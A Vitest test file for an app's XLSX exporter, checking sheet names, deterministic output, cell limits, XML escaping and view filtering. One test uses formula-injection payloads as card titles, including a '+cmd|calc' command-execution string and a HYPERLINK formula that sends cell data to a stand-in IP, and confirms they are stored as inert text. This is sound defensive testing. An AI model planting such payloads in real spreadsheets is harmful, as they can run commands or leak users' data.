/** The workbook as other programs find it: sheets, cells that never run, the same bytes each time. */
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { createExportEnvironment } from '../../../electron/node/exportEnvironment';
import type { ExportOptions } from '../../../shared/exporters/types';
import { sheetNames } from '../../../shared/exporters/xlsx/packWorkbook';
import { cellText, columnName, MAX_CELL } from '../../../shared/exporters/xlsx/sheetXml';
import { xlsx } from '../../../shared/exporters/xlsx/xlsx';
import type { Blueprint, Locale } from '../../../shared/model/schema';
import { generateMap } from '../../support/generateMap';
import { tinyMap } from '../../support/tinyMap';

const base: ExportOptions = { locale: 'en', theme: 'print', date: '2026-11-22' };
const write = (doc: Blueprint, options: Partial<ExportOptions> = {}) =>
  xlsx.export(doc, { ...base, ...options }, createExportEnvironment());

async function parts(doc: Blueprint, options: Partial<ExportOptions> = {}) {
  const files = unzipSync(await write(doc, options));
  return (path: string): string => new TextDecoder().decode(files[path]);
}
const titled = (title: string): Blueprint => ({
  ...tinyMap,
  cards: { ...tinyMap.cards, c1: { ...tinyMap.cards.c1!, title } },
});

describe('XLSX', () => {
  it.each<[Locale, string]>([
    ['en', 'Read me,Map,Cards,Pains,Opportunities,Emotions,Measures,Problems'],
    ['zh-Hans', '说明,地图,卡片,痛点,机会,情绪,度量,问题'],
    ['zh-Hant', '說明,地圖,卡片,痛點,機會點,情緒,衡量,問題'],
  ])('names its sheets in %s', async (locale, names) => {
    const book = (await parts(tinyMap, { locale }))('xl/workbook.xml');
    const found = Array.from(book.matchAll(/<sheet name="([^"]+)"/g), ([, name]) => name);
    expect(found.slice(0, 8).join()).toBe(names);
    expect(new Set(found).size).toBe(found.length);
  });

  it('gives the same bytes for the same map and date', async () => {
    const map = generateMap({ cards: 60 });
    expect(await write(map)).toEqual(await write(map));
  });

  it.each(['=1+1', '+cmd|calc', '-1', '@SUM(A1)', '=HYPERLINK("http://192.0.2.1/?"&A1)'])(
    'writes %j as a text that no editing turns into a formula',
    async (title) => {
      const cards = (await parts(titled(title)))('xl/worksheets/sheet3.xml');
      expect(cards).not.toContain('<f>');
      const escaped = title.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
      const style = new RegExp(
        `s="(\\d+)" t="inlineStr"><is><t xml:space="preserve">${escaped.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}<`,
      ).exec(cards)?.[1];
      const formats = (await parts(titled(title)))('xl/styles.xml')
        .split('<cellXfs')[1]!
        .split('<xf ')
        .slice(1);
      expect(formats[Number(style)]).toContain('quotePrefix="1"');
    },
  );

  it('keeps headings and the first columns in view, and offers words to choose from', async () => {
    const cards = (await parts(tinyMap))('xl/worksheets/sheet3.xml');
    expect(cards).toContain('<pane xSplit="2" ySplit="1" topLeftCell="C2"');
    expect(cards).toMatch(
      /<dataValidation type="list"[^>]*><formula1>&#39;_lists&#39;!\$D\$2:\$D\$3<\/formula1>/,
    );
    const map = (await parts(tinyMap))('xl/worksheets/sheet2.xml');
    expect(map).toContain('<mergeCell ref="C1:D1"/>');
    expect(map).toContain('Line of interaction');
  });

  it('holds to what spreadsheets can hold', () => {
    expect(cellText('a'.repeat(40_000))).toHaveLength(MAX_CELL);
    expect(cellText(`${'a'.repeat(MAX_CELL - 2)}😀😀`)).toBe(`${'a'.repeat(MAX_CELL - 2)}…`);
    expect([0, 25, 26, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA']);
    const long = 'x'.repeat(40);
    expect(sheetNames(["a/b:c'", long, long.toUpperCase()])).toEqual([
      'a b c',
      'x'.repeat(31),
      `${'X'.repeat(29)} 2`,
    ]);
  });

  it('carries characters that XML forbids visibly, and letters that the format would decode as they are', async () => {
    const cards = (await parts(titled('a\u0000b \ud800 _x0041_')))('xl/worksheets/sheet3.xml');
    expect(cards).toContain('a␀b \ufffd _x005F_x0041_');
  });

  it('shows only what the view shows', async () => {
    const cards = (await parts(tinyMap, { view: { laneIds: ['front'] } }))('xl/worksheets/sheet3.xml');
    expect(cards).toContain('核对证件');
    expect(cards).not.toContain('Joins the queue');
  });
});
